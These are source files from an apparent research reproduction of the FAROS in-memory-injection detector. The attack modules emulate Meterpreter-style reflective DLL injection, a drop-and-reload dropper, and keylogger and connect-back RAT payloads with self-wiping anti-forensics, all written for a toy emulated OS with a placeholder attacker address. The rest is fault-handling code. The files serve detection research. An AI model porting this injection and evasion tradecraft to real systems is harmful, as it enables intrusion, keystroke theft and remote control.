        # Stage delivery to the RAT's session socket.
        (
            20_000,
            PacketEvent(
                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
            ),
        ),
        # A C2 command for the shell now running inside the victim
        # (its connect-back takes the next ephemeral port).
        (
            120_000,
            PacketEvent(
                Packet(ATTACKER_IP, C2_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT + 1, command)
            ),
        ),
    ]
    return AttackScenario(
        scenario=Scenario(
            name=f"code_injection_{rat}",
            setup=setup,
            events=events,
            max_instructions=600_000,
        ),
        client_process=rat_image,
        target_process=target_name,
        payload_size=len(payload),
        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
        module=f"code_injection({rat})",
    )
