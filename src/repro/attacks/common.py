"""Shared building blocks for attack scenarios.

Network constants follow the paper's testbed: the attacker machine is
``169.254.26.161`` serving payloads from port ``4444`` and the victim VM
is ``169.254.57.168``.
"""

from __future__ import annotations

from typing import List

from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import Program, assemble

ATTACKER_IP = "169.254.26.161"
ATTACKER_PORT = 4444
GUEST_IP = "169.254.57.168"

#: Where injectors place payloads in a target's address space.  Inside
#: the heap window so ``NtAllocateVirtualMemory(addr_hint=...)`` works,
#: high enough that ordinary heap allocations never collide with it.
PAYLOAD_BASE = 0x0006_0000

#: First ephemeral port the guest netstack hands out; attack scenarios
#: use it to aim the payload packet at the client's connect-back socket.
FIRST_EPHEMERAL_PORT = 49152


def assemble_image(*sections: str) -> Program:
    """Assemble a guest executable (standard prelude, image base)."""
    return assemble(program(*sections), base=layout.IMAGE_BASE)


def bytes_to_asm(data: bytes, per_line: int = 16) -> str:
    """Render raw bytes as ``.byte`` directives (payload embedding)."""
    lines: List[str] = []
    for start in range(0, len(data), per_line):
        chunk = data[start : start + per_line]
        lines.append("    .byte " + ", ".join(str(b) for b in chunk))
    return "\n".join(lines)


def benign_host_asm(console_banner: str = "ready") -> str:
    """A benign host process (notepad.exe, firefox.exe, explorer.exe...).

    Prints a banner, then idles in a sleep loop -- a realistic
    injection target that stays alive for the attack's duration.
    """
    return f"""
    start:
        movi r1, banner
        movi r2, {len(console_banner)}
        movi r0, SYS_WRITE_CONSOLE
        syscall
    idle:
        movi r1, 20000
        movi r0, SYS_SLEEP
        syscall
        jmp idle
    banner: .ascii "{console_banner}"
    """


def recv_exact_asm(sock_reg: str, buf_label: str, length: int, uid: str) -> str:
    """Receive exactly *length* bytes into *buf_label* from *sock_reg*.

    Loops on SYS_RECV until the full payload has arrived, tolerating
    arbitrary packet segmentation.  Clobbers r0-r5; *sock_reg* must not
    be one of r0-r5.
    """
    return f"""
    movi r4, {buf_label}
    movi r5, {length}
recv_loop_{uid}:
    mov r1, {sock_reg}
    mov r2, r4
    mov r3, r5
    movi r0, SYS_RECV
    syscall
    add r4, r4, r0
    sub r5, r5, r0
    cmpi r5, 0
    jnz recv_loop_{uid}
"""
