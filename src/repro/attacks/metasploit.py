"""Reflective DLL injection via Metasploit-style modules (§VI).

Three scenarios matching the paper's experiments:

* ``reflective_dll_inject`` -- a Meterpreter shell (``inject_client.exe``)
  opens a session to the attacker, receives a reflective DLL stage over
  it, and injects the stage into ``notepad.exe`` with the classic
  ``OpenProcess`` / ``VirtualAllocEx`` / ``WriteProcessMemory`` /
  ``CreateRemoteThread`` chain.  The stage resolves
  LoadLibraryA-style imports from the export table by hash -- without
  ever registering with the loader (that registration bypass is the
  point of reflective loading).
* ``reverse_tcp_dns`` -- same delivery, but the shellcode process
  injects into *itself*: the stage lands in fresh RWX memory of
  ``inject_client.exe`` and is entered with an indirect call (Fig. 8's
  one-process provenance chain).
* ``bypassuac_injection`` -- same as the first, targeting
  ``firefox.exe`` (Fig. 9).

The loader deletes its own on-disk image after injecting (the §II
"loader is commonly deleted" anti-forensics step), so file-system
artifacts point nowhere by the time a sandbox looks.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.attacks.common import (
    ATTACKER_IP,
    ATTACKER_PORT,
    FIRST_EPHEMERAL_PORT,
    GUEST_IP,
    PAYLOAD_BASE,
    assemble_image,
    benign_host_asm,
    recv_exact_asm,
)
from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario
from repro.guestos import layout


@dataclass
class AttackScenario:
    """A runnable attack plus the metadata benches assert against."""

    scenario: Scenario
    client_process: str
    target_process: str
    payload_size: int
    attacker_endpoint: str
    module: str


def _injector_asm(payload_size: int, target_name: str) -> str:
    """The remote-injection client (Meterpreter session handler)."""
    return f"""
    start:
        ; open the session back to the attacker
        movi r0, SYS_SOCKET
        syscall
        mov r7, r0
        mov r1, r7
        movi r2, attacker_ip
        movi r3, {ATTACKER_PORT}
        movi r0, SYS_CONNECT
        syscall
        ; stage the reflective DLL over the session
{recv_exact_asm("r7", "stage_buf", payload_size, "stage")}
        ; locate and open the victim
        movi r1, target_name
        movi r0, SYS_FIND_PROCESS
        syscall
        mov r1, r0
        movi r0, SYS_OPEN_PROCESS
        syscall
        mov r6, r0
        ; VirtualAllocEx(victim, PAYLOAD_BASE, RWX)
        mov r1, r6
        movi r2, {payload_size}
        movi r3, PERM_RWX
        movi r4, {PAYLOAD_BASE:#x}
        movi r0, SYS_ALLOC_VM
        syscall
        ; WriteProcessMemory(victim, PAYLOAD_BASE, stage)
        mov r1, r6
        movi r2, {PAYLOAD_BASE:#x}
        movi r3, stage_buf
        movi r4, {payload_size}
        movi r0, SYS_WRITE_VM
        syscall
        ; CreateRemoteThread(victim, stage entry)
        mov r1, r6
        movi r2, {PAYLOAD_BASE + PAYLOAD_ENTRY_OFFSET:#x}
        movi r3, 0
        movi r0, SYS_CREATE_REMOTE_THREAD
        syscall
        ; anti-forensics: delete the loader from disk
        movi r1, own_path
        movi r0, SYS_DELETE_FILE
        syscall
        movi r1, 0
        movi r0, SYS_EXIT
        syscall
    attacker_ip: .asciz "{ATTACKER_IP}"
    target_name: .asciz "{target_name}"
    own_path: .asciz "inject_client.exe"
    stage_buf: .space {payload_size}
    """


def _self_injector_asm(payload_size: int) -> str:
    """reverse_tcp_dns: stage lands in the shellcode's own process."""
    return f"""
    start:
        movi r0, SYS_SOCKET
        syscall
        mov r7, r0
        mov r1, r7
        movi r2, attacker_ip
        movi r3, {ATTACKER_PORT}
        movi r0, SYS_CONNECT
        syscall
{recv_exact_asm("r7", "stage_buf", payload_size, "stage")}
        ; VirtualAlloc RWX in our own address space (lands at HEAP_BASE)
        movi r1, {payload_size}
        movi r2, PERM_RWX
        movi r0, SYS_ALLOC
        syscall
        mov r6, r0
        ; copy the stage in, byte by byte
        movi r1, stage_buf
        mov r2, r6
        movi r3, {payload_size}
    copy:
        ldb r4, [r1]
        stb [r2], r4
        addi r1, r1, 1
        addi r2, r2, 1
        subi r3, r3, 1
        cmpi r3, 0
        jnz copy
        ; jump into the stage (it never returns)
        addi r6, r6, {PAYLOAD_ENTRY_OFFSET}
        callr r6
        hlt
    attacker_ip: .asciz "{ATTACKER_IP}"
    stage_buf: .space {payload_size}
    """


def _build(
    module: str,
    target_name: Optional[str],
    self_inject: bool,
    transient: bool,
    deliver_at: int = 20_000,
) -> AttackScenario:
    stage_base = layout.HEAP_BASE if self_inject else PAYLOAD_BASE
    stage = build_popup_payload(stage_base, transient=transient)
    payload = stage.code

    def setup(machine) -> None:
        if target_name:
            machine.kernel.register_image(
                target_name, assemble_image(benign_host_asm(f"{target_name} up"))
            )
            machine.kernel.spawn(target_name)
        if self_inject:
            source = _self_injector_asm(len(payload))
        else:
            source = _injector_asm(len(payload), target_name)
        machine.kernel.register_image("inject_client.exe", assemble_image(source))
        machine.kernel.spawn("inject_client.exe")

    events = [
        (
            deliver_at,
            PacketEvent(
                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
            ),
        )
    ]
    return AttackScenario(
        scenario=Scenario(
            name=module,
            setup=setup,
            events=events,
            max_instructions=400_000,
        ),
        client_process="inject_client.exe",
        target_process=target_name or "inject_client.exe",
        payload_size=len(payload),
        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
        module=module,
    )


def build_reflective_dll_scenario(transient: bool = False) -> AttackScenario:
    """Fig. 7: Meterpreter reflective DLL injection into notepad.exe."""
    return _build(
        "reflective_dll_inject", "notepad.exe", self_inject=False, transient=transient
    )


def build_reverse_tcp_dns_scenario(transient: bool = False) -> AttackScenario:
    """Fig. 8: reverse_tcp_dns -- shellcode and target are the same process."""
    return _build("reverse_tcp_dns", None, self_inject=True, transient=transient)


def build_bypassuac_injection_scenario(transient: bool = False) -> AttackScenario:
    """Fig. 9: bypassuac_injection targeting firefox.exe."""
    return _build(
        "bypassuac_injection", "firefox.exe", self_inject=False, transient=transient
    )
