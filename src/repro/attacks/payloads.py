"""Injected payloads: the "malicious DLLs" and shellcode stages.

A payload is a self-contained blob of position-dependent machine code
assembled for the address it will execute at in the *target* process.
Every payload follows real in-memory tradecraft:

* an ``MZ`` marker heads the blob (what a PE-ish stage looks like in
  memory, and what ``malfind``-style scans grep for);
* the entry point sits at :data:`PAYLOAD_ENTRY_OFFSET` past the header;
* imports are resolved **by hashing through the export table** (the
  :func:`~repro.guestos.loader.export_resolver_asm` scan loop), never
  via the loader -- the load of each resolved function pointer is the
  exact instruction FAROS' invariant flags;
* the *transient* variants wipe their own header+resolver bytes after
  the initial action, defeating point-in-time memory forensics while
  changing nothing about the information flow FAROS observes.

Available stages: a pop-up stage (the paper's reflective-DLL demo), a
keylogger (the Lab 3-3 hollowing payload), and a connect-back remote
shell (the DarkComet/Njrat-style RAT stage).
"""

from __future__ import annotations

from typing import Tuple

from repro.guestos.loader import export_resolver_asm
from repro.isa.assembler import Program, assemble

#: Entry point offset past the MZ-style header.
PAYLOAD_ENTRY_OFFSET = 8

_HEADER = """
    .ascii "MZ"
    .space 6
entry:
"""


def _resolver(api: str, uid: str) -> str:
    """One export-table hash-resolution of *api* into r7."""
    return export_resolver_asm(api, result_reg="r7").format(uid=uid)


_WIPE = """
wipe_code:
    movi r1, {base}
    movi r2, 0
wipe_loop:
    stb [r1], r2
    addi r1, r1, 1
    cmpi r1, wipe_code
    jnz wipe_loop
"""


def _maybe_wipe(base: int, transient: bool) -> str:
    """Self-wipe epilogue: zero [base, wipe_code) -- header, resolvers,
    and stage body vanish from memory (and from any later snapshot)."""
    return _WIPE.format(base=base) if transient else ""


def build_popup_payload(base: int, transient: bool = False) -> Program:
    """The reflective-DLL demo stage: 'only showed a pop-up message from
    the target process, representing a successful injection' (§VI)."""
    source = "\n".join(
        [
            _HEADER,
            _resolver("WriteConsoleA", "pw"),
            """
    movi r1, msg
    movi r2, 23
    callr r7
            """,
            _resolver("Sleep", "ps"),
            """
    movi r6, slot_sleep
    st [r6], r7
            """,
            # Transient stages dwell before cleaning up (the attacker
            # finishes the task first) -- which is exactly the window a
            # lucky early memory dump can still catch (see the
            # snapshot-timing experiment).
            (
                """
    movi r6, slot_sleep
    ld r7, [r6]
    movi r1, 30000
    callr r7
                """
                if transient
                else ""
            ),
            _maybe_wipe(base, transient),
            """
park:
    movi r6, slot_sleep
    ld r7, [r6]
    movi r1, 8000
    callr r7
    jmp park
msg: .ascii "meterpreter stage alive"
slot_sleep: .word 0
            """,
        ]
    )
    return assemble(source, base=base)


def build_keylogger_payload(base: int, log_path: str = "C:\\\\keylog.dat",
                            transient: bool = False) -> Program:
    """The hollowing stage: poll keystrokes, append them to a log file."""
    source = "\n".join(
        [
            _HEADER,
            _resolver("CreateFileA", "kc"),
            """
    movi r1, logpath
    callr r7
    movi r6, slot_file
    st [r6], r0
            """,
            _resolver("GetAsyncKeyState", "kk"),
            "    movi r6, slot_keys\n    st [r6], r7",
            _resolver("WriteFile", "kw"),
            "    movi r6, slot_write\n    st [r6], r7",
            _resolver("Sleep", "ks"),
            "    movi r6, slot_sleep\n    st [r6], r7",
            _maybe_wipe(base, transient),
            f"""
kloop:
    movi r6, slot_keys
    ld r7, [r6]
    movi r1, keybuf
    movi r2, 16
    callr r7
    cmpi r0, 0
    jz ksleep
    mov r3, r0
    movi r6, slot_file
    ld r1, [r6]
    movi r2, keybuf
    movi r6, slot_write
    ld r7, [r6]
    callr r7
ksleep:
    movi r6, slot_sleep
    ld r7, [r6]
    movi r1, 400
    callr r7
    jmp kloop
logpath: .asciz "{log_path}"
keybuf: .space 16
slot_file: .word 0
slot_keys: .word 0
slot_write: .word 0
slot_sleep: .word 0
            """,
        ]
    )
    return assemble(source, base=base)


def build_scanner_payload(base: int, transient: bool = False) -> Program:
    """A stage that avoids the export table entirely (§VI-B evasion).

    Instead of hashing through export entries, it scans the kernel
    module's *code* for the API stub pattern (``movi r0, <sysno>``) --
    the analog of ROP-style "techniques that search for functions in
    memory to avoid tainted library linking pointers".  Against the
    paper's export-pointer-only tagging this leaves no export-table read
    to flag; FAROS' policy response is ``taint_kernel_code=True``.
    """
    from repro.guestos.layout import KERNEL_SHARED_BASE
    from repro.guestos.syscalls import Sys

    source = "\n".join(
        [
            _HEADER,
            f"""
    ; scan kernel code for the WriteConsoleA stub: movi r0, {int(Sys.WRITE_CONSOLE)}
    movi r4, {KERNEL_SHARED_BASE}
scan_loop:
    ldb r5, [r4]             ; opcode byte of a would-be instruction
    cmpi r5, 0x11            ; MOVI?
    jnz scan_next
    ld r5, [r4+4]            ; its immediate: the syscall number
    cmpi r5, {int(Sys.WRITE_CONSOLE)}
    jz scan_hit
scan_next:
    addi r4, r4, 8
    jmp scan_loop
scan_hit:
    mov r7, r4               ; the stub address, no export table touched
    movi r1, msg
    movi r2, 19
    callr r7
            """,
            _maybe_wipe(base, transient),
            """
park:
    jmp park
msg: .ascii "scanner stage alive"
            """,
        ]
    )
    return assemble(source, base=base)


def build_shell_payload(
    base: int,
    c2_ip: str,
    c2_port: int,
    transient: bool = False,
) -> Program:
    """The RAT stage: connect back to the C2 and WinExec its commands."""
    source = "\n".join(
        [
            _HEADER,
            _resolver("socket", "ss"),
            """
    callr r7
    movi r6, slot_sock
    st [r6], r0
            """,
            _resolver("connect", "sc"),
            f"""
    movi r6, slot_sock
    ld r1, [r6]
    movi r2, c2ip
    movi r3, {c2_port}
    callr r7
            """,
            _resolver("recv", "sr"),
            "    movi r6, slot_recv\n    st [r6], r7",
            _resolver("WinExec", "se"),
            "    movi r6, slot_exec\n    st [r6], r7",
            _maybe_wipe(base, transient),
            f"""
sloop:
    movi r6, slot_sock
    ld r1, [r6]
    movi r2, cmdbuf
    movi r3, 63
    movi r6, slot_recv
    ld r7, [r6]
    callr r7
    ; NUL-terminate the received command
    movi r6, cmdbuf
    add r6, r6, r0
    movi r5, 0
    stb [r6], r5
    movi r1, cmdbuf
    movi r6, slot_exec
    ld r7, [r6]
    callr r7
    jmp sloop
c2ip: .asciz "{c2_ip}"
cmdbuf: .space 64
slot_sock: .word 0
slot_recv: .word 0
slot_exec: .word 0
            """,
        ]
    )
    return assemble(source, base=base)
