"""The drop-and-reload attack: payload staged through the filesystem.

A classic variant the in-memory-only attacks avoid, but real droppers
use: the malware downloads its stage, **writes it to disk**, reads it
back later, and only then injects it.  The disk hop launders direct
byte taint (file content is re-materialised on read), so the read-back
bytes carry only *file* tags -- which is exactly why FAROS' file tags
carry ``(name, version)``: the write that produced the content recorded
the buffer's provenance under the same key, and
:meth:`repro.faros.report.FarosReport.stitched` splices the chains back
together, recovering the netflow origin across the disk.

Detection itself does not need the stitch: the injected stage still
carries two process tags when the victim executes it (cross-process
confluence).  The stitch restores the *forensics* -- "where did this
come from" -- which the paper holds up as FAROS' value to an analyst.
"""

from __future__ import annotations

from repro.attacks.common import (
    ATTACKER_IP,
    ATTACKER_PORT,
    FIRST_EPHEMERAL_PORT,
    GUEST_IP,
    PAYLOAD_BASE,
    assemble_image,
    benign_host_asm,
    recv_exact_asm,
)
from repro.attacks.metasploit import AttackScenario
from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario

DROP_PATH = "C:\\\\stage.bin"


def _dropper_asm(payload_size: int, target_name: str) -> str:
    return f"""
    start:
        ; download the stage
        movi r0, SYS_SOCKET
        syscall
        mov r7, r0
        mov r1, r7
        movi r2, attacker_ip
        movi r3, {ATTACKER_PORT}
        movi r0, SYS_CONNECT
        syscall
{recv_exact_asm("r7", "stage_buf", payload_size, "dl")}
        ; DROP: persist the stage to disk
        movi r1, drop_path
        movi r0, SYS_CREATE_FILE
        syscall
        mov r1, r0
        movi r2, stage_buf
        movi r3, {payload_size}
        movi r0, SYS_WRITE_FILE
        syscall
        ; scrub the in-memory download (the taint the disk hop launders)
        movi r1, stage_buf
        movi r2, 0
        movi r3, {payload_size}
    scrub:
        stb [r1], r2
        addi r1, r1, 1
        subi r3, r3, 1
        cmpi r3, 0
        jnz scrub
        ; RELOAD: read the stage back from disk
        movi r1, drop_path
        movi r0, SYS_OPEN_FILE
        syscall
        mov r1, r0
        movi r2, stage_buf
        movi r3, {payload_size}
        movi r0, SYS_READ_FILE
        syscall
        ; inject into the victim as usual
        movi r1, target_name
        movi r0, SYS_FIND_PROCESS
        syscall
        mov r1, r0
        movi r0, SYS_OPEN_PROCESS
        syscall
        mov r6, r0
        mov r1, r6
        movi r2, {payload_size}
        movi r3, PERM_RWX
        movi r4, {PAYLOAD_BASE:#x}
        movi r0, SYS_ALLOC_VM
        syscall
        mov r1, r6
        movi r2, {PAYLOAD_BASE:#x}
        movi r3, stage_buf
        movi r4, {payload_size}
        movi r0, SYS_WRITE_VM
        syscall
        mov r1, r6
        movi r2, {PAYLOAD_BASE + PAYLOAD_ENTRY_OFFSET:#x}
        movi r3, 0
        movi r0, SYS_CREATE_REMOTE_THREAD
        syscall
        ; delete the dropped stage AND ourselves (anti-forensics)
        movi r1, drop_path
        movi r0, SYS_DELETE_FILE
        syscall
        movi r1, own_path
        movi r0, SYS_DELETE_FILE
        syscall
        movi r1, 0
        movi r0, SYS_EXIT
        syscall
    attacker_ip: .asciz "{ATTACKER_IP}"
    target_name: .asciz "{target_name}"
    drop_path: .asciz "{DROP_PATH}"
    own_path: .asciz "dropper.exe"
    stage_buf: .space {payload_size}
    """


def build_drop_reload_scenario(target_name: str = "notepad.exe") -> AttackScenario:
    """Download → drop to disk → scrub memory → reload → inject."""
    stage = build_popup_payload(PAYLOAD_BASE)
    payload = stage.code

    def setup(machine) -> None:
        machine.kernel.register_image(
            target_name, assemble_image(benign_host_asm(f"{target_name} up"))
        )
        machine.kernel.spawn(target_name)
        machine.kernel.register_image(
            "dropper.exe", assemble_image(_dropper_asm(len(payload), target_name))
        )
        machine.kernel.spawn("dropper.exe")

    events = [
        (
            20_000,
            PacketEvent(
                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
            ),
        )
    ]
    return AttackScenario(
        scenario=Scenario(
            name="drop_reload",
            setup=setup,
            events=events,
            max_instructions=700_000,
        ),
        client_process="dropper.exe",
        target_process=target_name,
        payload_size=len(payload),
        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
        module="drop_reload",
    )
