"""The structured fault taxonomy (the substrate's failure vocabulary).

A whole-system analysis substrate fails in two fundamentally different
ways, and conflating them is how provenance collectors fall over in the
field (the DARPA TC lesson):

* **Host bugs** -- harness defects: malformed encodings built by the
  host, out-of-range physical addresses, assembler misuse.  These stay
  ordinary Python exceptions (``ValueError``, :class:`~repro.isa.errors.
  DecodeError`, ...) and *should* crash loudly.

* **Emulator faults** -- conditions a hostile or buggy *guest* can
  provoke, plus conditions the harness deliberately injects or imposes
  (watchdogs, taint budgets).  Every one of these derives from
  :class:`EmulatorFault`; the machine's run loop converts any that reach
  it into a :class:`FaultRecord` and stops gracefully, so one wedged or
  malicious sample degrades to a partial report instead of killing the
  triage fleet.

This module is deliberately dependency-free: every layer (``isa``,
``emulator``, ``guestos``, ``taint``) imports the taxonomy, so it must
import none of them.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

__all__ = [
    "EmulatorFault",
    "DeviceFault",
    "GuestResourceExhausted",
    "WatchdogExpired",
    "TaintBudgetExceeded",
    "InjectedFault",
    "FaultRecord",
    "FaultMarker",
    "CLASS_DEGRADED",
    "CLASS_RETRYABLE",
    "FAULT_CLASSIFICATION",
    "classify_fault_kind",
]


class EmulatorFault(Exception):
    """Base class for every guest-attributable or harness-imposed fault.

    :class:`~repro.isa.errors.GuestFault` joins this hierarchy via
    multiple inheritance, so ``except EmulatorFault`` at the machine's
    run loop is the single backstop for everything a sample can provoke.
    """

    #: True when the condition was planted by a :class:`~repro.faults.
    #: plan.FaultPlan` rather than arising organically.
    injected: bool = False


class DeviceFault(EmulatorFault):
    """A device model rejected an operation (DMA overflow, framebuffer
    overrun).  Guest-reachable through syscalls and packet delivery, so
    it must never masquerade as a host ``MemoryError``/``ValueError``."""

    def __init__(self, device: str, detail: str) -> None:
        super().__init__(f"{device}: {detail}")
        self.device = device
        self.detail = detail


class GuestResourceExhausted(EmulatorFault, MemoryError):
    """The guest ran the machine out of a finite resource (physical
    frames, address-space regions).

    Subclasses ``MemoryError`` so the kernel's existing graceful
    ``except MemoryError -> ERR`` sites keep failing just the syscall;
    the point of the dual parentage is the *escape* path: an exhaustion
    that no syscall handler absorbs now lands in the machine's
    ``except EmulatorFault`` backstop as a recorded fault instead of
    propagating out of the harness as a host crash.
    """

    def __init__(self, resource: str, detail: str) -> None:
        super().__init__(f"{resource} exhausted: {detail}")
        self.resource = resource
        self.detail = detail


class WatchdogExpired(EmulatorFault):
    """An in-guest watchdog budget ran out (runaway loop containment)."""

    def __init__(self, watchdog: str, budget: int, detail: str = "") -> None:
        message = f"{watchdog} watchdog expired (budget {budget})"
        if detail:
            message += f": {detail}"
        super().__init__(message)
        self.watchdog = watchdog
        self.budget = budget


class TaintBudgetExceeded(EmulatorFault):
    """Tag spread crossed the configured cap (taint-explosion guard)."""

    def __init__(self, resource: str, used: int, budget: int) -> None:
        super().__init__(f"taint budget exceeded: {used} {resource} > cap {budget}")
        self.resource = resource
        self.used = used
        self.budget = budget


class InjectedFault(EmulatorFault):
    """A fault planted by a :class:`~repro.faults.plan.FaultPlan` with no
    organic analog (the generic chaos hammer)."""

    injected = True

    def __init__(self, detail: str) -> None:
        super().__init__(detail)
        self.detail = detail


@dataclass(frozen=True)
class FaultMarker:
    """A journal entry marking an injected fault.

    Lives in the machine's delivery journal alongside packet/keystroke
    events, with the same stable-``repr`` contract, so a faulted run's
    replay is verified against the *same* injection points.
    """

    note: str

    def deliver(self, machine) -> None:  # pragma: no cover - markers are inert
        """Markers are journal entries, not deliverable events."""

    def __repr__(self) -> str:
        return f"FaultMarker({self.note!r})"


#: Triage classification labels.  Every fault kind maps to exactly one.
CLASS_DEGRADED = "degraded"
CLASS_RETRYABLE = "retryable"

#: kind name -> classification.  *Degraded* kinds are deterministic
#: properties of the sample (a retry would reproduce them bit-for-bit,
#: so triage reports a partial result instead of retrying).  *Retryable*
#: kinds are host-transient (a worker OOM-killed mid-job, a wall-clock
#: overrun on a loaded host) where a second attempt can legitimately
#: differ.
FAULT_CLASSIFICATION = {
    # guest-attributable / harness-imposed: deterministic, not retried
    "GuestFault": CLASS_DEGRADED,
    "PageFault": CLASS_DEGRADED,
    "InvalidInstruction": CLASS_DEGRADED,
    "DeviceFault": CLASS_DEGRADED,
    "GuestResourceExhausted": CLASS_DEGRADED,
    "WatchdogExpired": CLASS_DEGRADED,
    "TaintBudgetExceeded": CLASS_DEGRADED,
    # The taint pipeline's bounded FIFO overflowed and soft-drop
    # degraded precise events to page-granular overtaint.  The ring
    # depth is configuration, so a retry reproduces the drops: the
    # report is deterministically partial-precision, not retryable.
    "TaintPipelineOverflow": CLASS_DEGRADED,
    "InjectedFault": CLASS_DEGRADED,
    "EmulatorFault": CLASS_DEGRADED,
    # A machine snapshot failed its integrity digest: the frozen state
    # is corrupt and every fork from it would be equally corrupt, so
    # there is nothing to retry -- the pool degrades the job to a cold
    # boot and reports how it got there.
    "SnapshotIntegrityError": CLASS_DEGRADED,
    # The warm pool could not serve a fork (corrupt snapshot, capture
    # failure, exhaustion past its degradation threshold) and the job
    # ran from a cold boot instead.  The *result* is complete -- the
    # record documents the degraded path, so retrying it would only
    # repeat the cold boot.
    "DegradedPool": CLASS_DEGRADED,
    # host-transient: worth another attempt (with backoff)
    "WorkerCrash": CLASS_RETRYABLE,
    "Timeout": CLASS_RETRYABLE,
    "HostError": CLASS_RETRYABLE,
    # A pool worker stopped publishing progress (wedged host process);
    # the supervisor killed and restarted it.  Host-side, so retryable.
    "WorkerStalled": CLASS_RETRYABLE,
    # The triage run was interrupted (SIGINT/SIGTERM) before this job
    # finished; the row carries the worker's last published progress.
    # Resubmitting after restart is exactly the right move.
    "Shutdown": CLASS_RETRYABLE,
}


def classify_fault_kind(kind: str) -> str:
    """The triage classification for *kind* (total: unknown kinds are
    host-transient by assumption -- only the taxonomy above is known to
    be deterministic)."""
    return FAULT_CLASSIFICATION.get(kind, CLASS_RETRYABLE)


@dataclass(frozen=True)
class FaultRecord:
    """The serializable account of one fault: what, where, and when.

    Carried on :class:`~repro.emulator.machine.RunStats` (aka
    ``MachineResult``), embedded in degraded
    :class:`~repro.faros.report.FarosReport` s, and attached to triage
    ``DEGRADED``/``ERROR`` rows so ``--json`` exports show where the
    guest was when things went wrong.
    """

    kind: str
    detail: str
    tick: Optional[int] = None
    pc: Optional[int] = None
    pid: Optional[int] = None
    process: Optional[str] = None
    syscall: Optional[int] = None
    injected: bool = False

    @property
    def classification(self) -> str:
        return classify_fault_kind(self.kind)

    @property
    def retryable(self) -> bool:
        return self.classification == CLASS_RETRYABLE

    def describe(self) -> str:
        where = []
        if self.tick is not None:
            where.append(f"tick={self.tick}")
        if self.pc is not None:
            where.append(f"pc={self.pc:#x}")
        if self.process is not None:
            where.append(f"process={self.process}")
        if self.syscall is not None:
            where.append(f"syscall={self.syscall}")
        suffix = f" [{', '.join(where)}]" if where else ""
        prefix = "injected " if self.injected else ""
        return f"{prefix}{self.kind}: {self.detail}{suffix}"

    def to_json_dict(self) -> dict:
        """JSON-shaped record; inverse of :meth:`from_json_dict`."""
        return {
            "kind": self.kind,
            "detail": self.detail,
            "tick": self.tick,
            "pc": self.pc,
            "pid": self.pid,
            "process": self.process,
            "syscall": self.syscall,
            "injected": self.injected,
            "classification": self.classification,
        }

    @classmethod
    def from_json_dict(cls, d: dict) -> "FaultRecord":
        """Rebuild a record (``classification`` is derived, not stored)."""
        return cls(
            kind=d["kind"],
            detail=d["detail"],
            tick=d.get("tick"),
            pc=d.get("pc"),
            pid=d.get("pid"),
            process=d.get("process"),
            syscall=d.get("syscall"),
            injected=d.get("injected", False),
        )

    @classmethod
    def from_exception(cls, exc: BaseException, machine=None) -> "FaultRecord":
        """A record for *exc*, with last-known machine state if given."""
        tick = pc = pid = process = syscall = None
        if machine is not None:
            tick = machine.now
            pc = machine.cpu.pc
            thread = getattr(machine, "_current_thread", None)
            if thread is not None:
                pid = thread.process.pid
                process = thread.process.name
            syscall = getattr(machine, "last_syscall", None)
        return cls(
            kind=type(exc).__name__,
            detail=str(exc),
            tick=tick,
            pc=pc,
            pid=pid,
            process=process,
            syscall=syscall,
            injected=bool(getattr(exc, "injected", False)),
        )
