"""Fault taxonomy, deterministic fault injection, and watchdogs.

See :mod:`repro.faults.errors` for the exception hierarchy and
:class:`FaultRecord`, :mod:`repro.faults.plan` for the
:class:`FaultPlan` injection engine, and :mod:`repro.faults.watchdog`
for the timeout-diagnostics progress channel.

The taxonomy is imported eagerly (every layer needs it); the plan
machinery is exposed lazily because it sits *above* the emulator in the
import graph -- ``isa``/``emulator`` modules import
``repro.faults.errors``, which must not drag ``repro.faults.plan`` (and
therefore the emulator itself) back in.
"""

from repro.faults.errors import (
    CLASS_DEGRADED,
    CLASS_RETRYABLE,
    DeviceFault,
    EmulatorFault,
    FAULT_CLASSIFICATION,
    FaultMarker,
    FaultRecord,
    GuestResourceExhausted,
    InjectedFault,
    TaintBudgetExceeded,
    WatchdogExpired,
    classify_fault_kind,
)

__all__ = [
    "CLASS_DEGRADED",
    "CLASS_RETRYABLE",
    "DeviceFault",
    "EmulatorFault",
    "FAULT_CLASSIFICATION",
    "FaultMarker",
    "FaultRecord",
    "GuestResourceExhausted",
    "InjectedFault",
    "TaintBudgetExceeded",
    "WatchdogExpired",
    "classify_fault_kind",
    "FaultPlan",
    "FaultRule",
    "SyscallFaultInjector",
]

_PLAN_EXPORTS = {"FaultPlan", "FaultRule", "SyscallFaultInjector", "build_fault"}


def __getattr__(name: str):
    if name in _PLAN_EXPORTS:
        from repro.faults import plan

        return getattr(plan, name)
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")
