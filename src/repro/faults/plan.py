"""Deterministic fault injection: FaultPlan and its trigger machinery.

A :class:`FaultPlan` is a set of ``(trigger, fault)`` rules applied to a
:class:`~repro.emulator.record_replay.Scenario`:

* ``packet`` triggers rewrite the scenario's scheduled events *before*
  the run (corrupt/truncate/drop the K-th inbound packet), so both the
  recording and its replay see the identical mutated input;
* ``instret`` triggers schedule a journaled event that raises a chosen
  fault when the machine clock reaches tick N;
* ``syscall`` triggers register a :class:`SyscallFaultInjector` plugin
  (inside the scenario's setup, so record and replay both get it) that
  overrides the N-th syscall with an error return or a raised fault.

Every firing is marked in the machine's delivery journal -- packet and
instret rules *are* journaled events, and syscall overrides append a
:class:`~repro.faults.errors.FaultMarker` -- so a faulted run replays
bit-identically and the replay verifier checks the injections happened
